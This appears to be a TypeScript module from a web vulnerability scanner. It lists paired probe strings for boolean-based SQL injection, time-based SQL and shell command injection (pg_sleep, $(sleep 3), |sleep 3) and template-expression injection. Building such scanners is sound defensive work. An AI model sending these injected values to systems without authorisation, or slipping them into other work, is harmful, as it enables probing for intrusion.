/** Two texts of one length and look that only a server which runs a part of them can tell apart; `{v}` stands for what is right in the place. */
export type PayloadPair = readonly [one: string, other: string];

/** A condition that holds, and one that does not; or SQL that is sound, and SQL that is not. The first four are enough for a look. */
export const truths: readonly PayloadPair[] = [
  ["{v}' AND '1'='1", "{v}' AND '1'='2"],
  ['{v} AND 1=1', '{v} AND 1=2'],
  ["{v}' OR '1'='1", "{v}' OR '1'='2"],
  ["{v}'||(select 1/1)||'", "{v}'||(select 1/0)||'"],
  ['{v}" AND "1"="1', '{v}" AND "1"="2'],
  ["{v}') AND ('1'='1", "{v}') AND ('1'='2"],
  ["{v}' AND 1=1--", "{v}' AND 1=2--"],
  ["{v}' AND 1=1/*", "{v}' AND 1=2/*"],
  ["{v}%' AND '%'='", "{v}%' AND '%'='x"],
  ["{v}' ORDER BY 001--", "{v}' ORDER BY 999--"],
  ["{v}\\' AND 1=1--", "{v}\\' AND 1=2--"],
  ['-1 UNION SELECT 111--', '-1 UNION SELECT 1,1--'],
  ["{v}'::text=''--", "{v}'::teyt=''--"],
  ["{v}' AND 'a' LIKE 'a", "{v}' AND 'a' LIKE 'b"],
];

/** One that takes no time, and one that takes three seconds where it is run. The first three are enough for a look. */
export const sleeps: readonly PayloadPair[] = [
  ["{v}'||(select pg_sleep(0))||'", "{v}'||(select pg_sleep(3))||'"],
  ["{v}' AND hex(randomblob(1))>'", "{v}' AND hex(randomblob(500000000))>'"],
  ['{v};sleep 0', '{v};sleep 3'],
  ["{v}';select pg_sleep(0)--", "{v}';select pg_sleep(3)--"],
  ['1 and 1=(select 1 from pg_sleep(0))', '1 and 1=(select 1 from pg_sleep(3))'],
  ['1 and hex(randomblob(1))>0', '1 and hex(randomblob(500000000))>0'],
  ['$(sleep 0)', '$(sleep 3)'],
  ['`sleep 0`', '`sleep 3`'],
  ['{v}|sleep 0', '{v}|sleep 3'],
  ["{v}'&&sleep 0#", "{v}'&&sleep 3#"],
];

/** What the sum in the payloads below comes to where somebody works it out. */
export const WORKED_OUT = '9801547';

/** Templates, shells and SQL that would work out 1337 × 7331. The first four are enough for a look. */
export const sums: readonly string[] = [
  '{{1337*7331}}',
  `\${1337*7331}`,
  "'||(1337*7331)||'",
  '$((1337*7331))',
  '<%= 1337*7331 %>',
  '#{1337*7331}',
  '*{1337*7331}',
  '@(1337*7331)',
  '1337*7331',
  '`expr 1337 \\* 7331`',
  "');process.stdout.write(String(1337*7331))//",
  "' UNION SELECT 1337*7331--",
  '%{1337*7331}',
];

/** How many of each are enough for a look. */
export const A_LOOK = { truths: 4, sleeps: 3, sums: 4 } as const;
